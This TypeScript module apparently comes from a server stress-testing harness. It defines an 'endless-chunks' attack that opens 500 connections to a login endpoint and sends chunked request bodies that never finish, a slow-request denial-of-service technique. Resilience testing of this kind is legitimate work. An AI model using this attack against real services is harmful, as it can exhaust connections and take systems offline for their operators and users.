import type { Attack } from '../attacker/attack.js';
import { dripBytes } from '../attacker/drip-bytes.js';

export const endlessChunks: Attack = {
  name: 'endless-chunks',
  what: '500 connections send a chunked body that never ends',
  run: (signal, target) =>
    dripBytes(signal, target, {
      connections: 500,
      head: 'POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n',
      drop: '10\r\n                \r\n',
    }),
};
